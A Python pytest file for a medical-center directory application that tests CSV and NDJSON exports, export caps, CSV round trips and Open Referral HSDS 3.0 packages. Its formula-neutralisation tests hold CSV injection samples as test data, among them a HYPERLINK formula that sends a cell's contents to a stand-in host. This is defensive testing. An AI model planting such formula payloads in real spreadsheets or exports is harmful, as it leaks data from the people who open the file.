"""Exports: search CSV / NDJSON (streamed, capped), the CSV template round trip, formula
neutralisation (case 14), and the Open Referral HSDS 3.0 package (validated against the
official schema, re-imported through the HSDS reader)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from directory.catalog import sync_vocabulary
from directory.exchange.hsds import export_package
from directory.exchange.hsds_read import read_package
from directory.exchange.template import (
    TEMPLATE_COLUMNS,
    directory_csv_bytes,
    neutralise,
    unneutralise,
)
from directory.extensions import db
from directory.models import Center, Organization
from tests.conftest import CASES, DATA, empty_database

EXPORT_DATA = Path(__file__).parent / "data" / "export"
EXCERPTS = DATA / "excerpts"


def read_csv(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
def directory(import_file):
    """Several sources: CMS hospitals with POS/measure claims, NCI centers (designations,
    inferred claims), NHS hospitals, plus the awkward shared cases."""
    import_file(EXCERPTS / "cms_hgi_excerpt.csv", format="cms-hgi")
    import_file(EXCERPTS / "cms_pos_excerpt.csv", format="cms-pos")
    import_file(EXCERPTS / "cms_measures_excerpt.csv", format="cms-oqr")
    import_file(EXCERPTS / "nci_excerpt.csv", format="nci")
    import_file(EXCERPTS / "nhs_excerpt.csv", format="nhs")
    for case in ("04_quoted_multiline.csv", "06_zip_leading_zero.csv",
                 "14_formula_injection.csv", "16_accented_cities.csv"):
        import_file(CASES / case, source=case.split("_")[0])


def reimport(data: bytes, import_file) -> None:
    """Empty the database, then import ``data`` as the CSV template."""
    db.session.remove()
    empty_database()
    sync_vocabulary(db.session)
    db.session.commit()
    result = import_file(data, filename="export.csv", format="native")
    assert result.rejected == 0, [str(i) for i in result.errors]


# -- formula neutralisation (case 14) ----------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+1+1 Example", "'+1+1 Example"),
    ("-2+3 Example", "'-2+3 Example"), ("@SUM(1;1)", "'@SUM(1;1)"), ("\tTab", "'\tTab"),
    ("\rCR", "'\rCR"), ("-71.1066", "-71.1066"), ("+16175551234", "+16175551234"),
    ("1e-5", "1e-5"), ("Boston", "Boston"), ("", ""), (None, ""), (-71.1, "-71.1"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected
    if isinstance(value, str):
        assert unneutralise(neutralise(value)) == value


def test_formula_cells_are_neutralised_on_export_case_14(client, import_file):
    import_file(CASES / "14_formula_injection.csv")
    rows = read_csv(client.get("/centers.csv?city=Boston").data)
    names = sorted(r["name"] for r in rows)
    assert names == sorted(["'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Open\")",
                            "'+1+1 Example Clinic", "'-2+3 Example Clinic",
                            "'@SUM(1;1) Example Clinic"])
    assert {r["longitude"] for r in rows} == {"-71.1066", "-71.0763", "-71.07", "-71.0695"}
    assert all(not r["phone"].startswith("'") for r in rows)
    api = client.get("/api/v1/centers?city=Boston").get_json()
    assert any(i["name"].startswith("=HYPERLINK(") for i in api["items"])  # raw in JSON
    template = read_csv(directory_csv_bytes(db.session))
    assert all(r["name"].startswith("'") for r in template)


def test_neutralised_cells_import_back_unchanged(import_file):
    import_file(CASES / "14_formula_injection.csv")
    before = set(db.session.scalars(sa.select(Center.name)))
    reimport(directory_csv_bytes(db.session), import_file)
    assert set(db.session.scalars(sa.select(Center.name))) == before


# -- search exports ----------------------------------------------------------------------

def test_search_csv_with_distances_and_extras(client, directory):
    response = client.get("/centers.csv?near=Boston,+MA&radius=10&unit=mi&sort=distance")
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith("\ufeff".encode())
    rows = read_csv(response.data)
    header = list(rows[0])
    assert header[:len(TEMPLATE_COLUMNS)] == list(TEMPLATE_COLUMNS)
    assert header[len(TEMPLATE_COLUMNS):] == ["distance_mi", "inferred_modalities",
                                              "center_id", "url"]
    distances = [float(r["distance_mi"]) for r in rows]
    assert distances == sorted(distances) and distances[-1] <= 10
    assert int(response.headers["X-Total-Count"]) == len(rows)
    assert {r["postal_code"] for r in rows} >= {"02115"}  # case 6: leading zero kept
    dana = next(r for r in rows if r["name"].startswith("Dana-Farber"))
    assert "chemotherapy" in dana["inferred_modalities"] and dana["designations"]
    multi = next(r for r in rows if r["name"] == "Example Cancer Institute, North Campus")
    assert multi["address"] == "Building 2, Floor 3\nMain Street 10"  # case 4
    api = client.get("/api/v1/centers?near=Boston,+MA&radius=10&unit=mi&per_page=100"
                     "&sort=distance")
    assert [int(r["center_id"]) for r in rows] == [i["id"] for i in api.get_json()["items"]]


def test_search_csv_bad_parameter_is_a_json_400(client):
    response = client.get("/centers.csv?unit=furlong")
    assert response.status_code == 400 and response.get_json()["field"] == "unit"
    assert client.get("/centers.csv?near=Qwxzzy").get_json()["field"] == "near"


def test_ndjson_is_the_api_item_shape(client, directory):
    response = client.get("/api/v1/centers?country=US&format=ndjson&per_page=2&page=3")
    assert response.headers["Content-Type"] == "application/x-ndjson"
    lines = response.get_data(as_text=True).splitlines()
    items = [json.loads(line) for line in lines]
    api = client.get("/api/v1/centers?country=US&per_page=100").get_json()
    assert items == api["items"]  # page and per_page are ignored: every result
    assert response.headers["X-Export-Truncated"] == "false"


def test_exports_are_capped(app, client, directory):
    app.config["EXPORT_MAX_ROWS"] = 3
    response = client.get("/api/v1/centers?format=csv")
    assert len(read_csv(response.data)) == 3
    assert response.headers["X-Export-Limit"] == "3"
    assert response.headers["X-Export-Truncated"] == "true"
    assert int(response.headers["X-Total-Count"]) > 3
    assert len(client.get("/api/v1/centers?format=ndjson").data.splitlines()) == 3


def test_exports_span_several_chunks(app, client, make_center):
    for n in range(1203):
        make_center(f"Chunk Center {n:04d}", 10.0, 10.0 + n / 10000, city="Chunk")
    lines = client.get("/api/v1/centers?city=chunk&format=ndjson").data.splitlines()
    names = [json.loads(line)["name"] for line in lines]
    assert names == [f"Chunk Center {n:04d}" for n in range(1203)]


# -- the CSV template: whole directory ---------------------------------------------------

def test_template_export_round_trips(directory, import_file):
    first = directory_csv_bytes(db.session)
    rows = read_csv(first)
    assert list(rows[0]) == list(TEMPLATE_COLUMNS)
    assert len(rows) == db.session.scalar(sa.select(sa.func.count(Center.id)))
    reimport(first, import_file)
    assert directory_csv_bytes(db.session) == first


def test_template_export_keeps_ids_unique_across_sources(make_center, import_file):
    # (Points in the US, with a city: a US row's coordinates off West Africa are not used
    # on re-import, and a row without a city is given the one its point is in.)
    make_center("Same Id A", 41.0, -75.0, external_id="X1", source="one", city="Testville")
    make_center("Same Id B", 42.0, -76.0, external_id="X1", source="two", city="Testville")
    make_center("Twin", 43.0, -77.0, source="one", city="Testville")
    make_center("Twin", 43.1, -77.1, source="two", city="Testville")
    first = directory_csv_bytes(db.session)
    ids = sorted(r["external_id"] for r in read_csv(first))
    assert {"one:X1", "two:X1"} < set(ids)
    assert sorted(i.split(":")[0] for i in ids if ":center-" in i) == ["one", "two"]
    reimport(first, import_file)
    assert db.session.scalar(sa.select(sa.func.count(Center.id))) == 4
    assert directory_csv_bytes(db.session) == first


def test_export_centers_command(runner, directory, tmp_path):
    path = tmp_path / "centers.csv"
    result = runner.invoke(args=["export-centers", str(path)])
    assert result.exit_code == 0, result.output
    assert path.read_bytes() == directory_csv_bytes(db.session)
    zipped = tmp_path / "centers.zip"
    assert runner.invoke(args=["export-centers", str(zipped), "--format", "hsds"]).exit_code == 0
    assert zipfile.is_zipfile(zipped)


# -- Open Referral HSDS 3.0 --------------------------------------------------------------

def validate_hsds(package: bytes, tmp_path: Path):
    """Validate the package's CSVs with frictionless against the *official* HSDS 3.0 schema
    (tests/data/export/datapackage.json), limited to the tables the package holds."""
    from frictionless import Package

    with zipfile.ZipFile(io.BytesIO(package)) as zf:
        zf.extractall(tmp_path)
    official = json.loads((EXPORT_DATA / "datapackage.json").read_text())
    present = {r["name"] for r in official["resources"] if (tmp_path / r["path"]).exists()}
    resources = []
    for res in official["resources"]:
        if res["name"] not in present:
            continue
        fks = [fk for fk in res["schema"].get("foreignKeys", [])
               if fk["reference"]["resource"] in present]
        res["schema"]["foreignKeys"] = fks
        resources.append(res)
    descriptor = {**official, "resources": resources}
    return Package(descriptor, basepath=str(tmp_path)).validate(), present


def test_hsds_package_validates_against_the_official_schema(directory, tmp_path):
    package = export_package(db.session)
    report, present = validate_hsds(package, tmp_path)
    errors = [(e.type, e.note) for task in report.tasks for e in task.errors][:10]
    assert report.valid, errors
    assert present >= {"organization", "location", "address", "service",
                       "service_at_location", "phone", "taxonomy", "taxonomy_term",
                       "attribute"}
    ours = json.loads((tmp_path / "datapackage.json").read_text())
    official = {r["name"]: r for r in json.loads(
        (EXPORT_DATA / "datapackage.json").read_text())["resources"]}
    for res in ours["resources"]:  # the package carries the official table schemas
        assert res["schema"]["fields"] == official[res["name"]]["schema"]["fields"]
    locations = read_csv((tmp_path / "locations.csv").read_bytes())
    assert len(locations) == db.session.scalar(sa.select(sa.func.count(Center.id)))
    terms = read_csv((tmp_path / "taxonomy_terms.csv").read_bytes())
    sbrt = next(t for t in terms if t["code"] == "sbrt")
    parent = next(t for t in terms if t["id"] == sbrt["parent_id"])
    assert parent["code"] == "radiation-therapy"
    assert export_package(db.session) == package  # deterministic


def test_hsds_round_trip_loses_nothing(directory, import_file, tmp_path):
    template = directory_csv_bytes(db.session)
    organizations = dict(db.session.execute(
        sa.select(Center.name, Organization.name).join(Center.organization)).all())
    package = export_package(db.session)
    native = read_package(package)
    reimport(native, import_file)
    assert directory_csv_bytes(db.session) == template
    assert dict(db.session.execute(
        sa.select(Center.name, Organization.name).join(Center.organization)).all()) == \
        organizations
    again = export_package(db.session)
    for table in ("locations.csv", "addresses.csv", "phones.csv", "organizations.csv",
                  "taxonomy_terms.csv"):
        with zipfile.ZipFile(io.BytesIO(package)) as a, zipfile.ZipFile(io.BytesIO(again)) as b:
            first, second = read_csv(a.read(table)), read_csv(b.read(table))
        if table == "locations.csv":  # the source is the import's, by design
            for row in first + second:
                row.pop("external_identifier_type")
        assert first == second, table


def test_hsds_round_trip_keeps_every_kind(make_center, import_file):
    """Issue 13: re-importing the package turned psychiatric, childrens... centers into
    hospitals (the kinds taxonomy listed four kinds, so the others had no attribute)."""
    from directory.models import CENTER_KINDS

    for i, kind in enumerate(CENTER_KINDS):
        make_center(f"Kind Test {kind}", 40.0 + i / 10, -75.0, kind=kind, city="Kindtown")
    expected = {f"Kind Test {kind}": kind for kind in CENTER_KINDS}
    native = read_package(export_package(db.session))
    assert {r["name"]: r["kind"] for r in read_csv(native)} == expected
    reimport(native, import_file)
    assert dict(db.session.execute(sa.select(Center.name, Center.kind)).all()) == expected


def test_hsds_reader_accepts_the_official_example(import_file):
    """The HSDS 3.0 example package (one row per table) reads into one center."""
    buffer = io.BytesIO()
    example = EXPORT_DATA / "example"
    with zipfile.ZipFile(buffer, "w") as zf:
        for path in example.glob("*.csv"):
            zf.write(path, path.name)
    rows = read_csv(read_package(buffer.getvalue()))
    assert [r["name"] for r in rows] == ["MyCity Civic Center"]
    assert rows[0]["city"] and rows[0]["country"]


@pytest.mark.parametrize("url", ["/centers.csv?q=clinic", "/api/v1/centers?q=clinic&format=csv",
                                 "/api/v1/centers?q=clinic&format=ndjson"])
def test_streamed_exports_hold_every_row_with_organizations(app, import_file, url):
    """The body streams after the view returns, in a new application context: every row
    must still be written (centers with an organization once broke it after the header).
    A second app, as a server has no application context around its requests."""
    from directory import create_app

    rows = "".join(f"X{i},Riverside Clinic {i},Riverside Health {i % 3},Boston,MA,US\n"
                   for i in range(25))
    import_file(("external_id,name,organization,city,region,country\n" + rows).encode())
    server = create_app({key: app.config[key] for key in (
        "TESTING", "SQLALCHEMY_DATABASE_URI", "GAZETTEER_PATH", "SECRET_KEY")})
    response = server.test_client().get(url)
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    if "ndjson" in url:
        assert len(body.splitlines()) == 25
    else:
        records = read_csv(response.data)
        assert len(records) == 25
        assert {r["organization"] for r in records} == {f"Riverside Health {i}"
                                                        for i in range(3)}
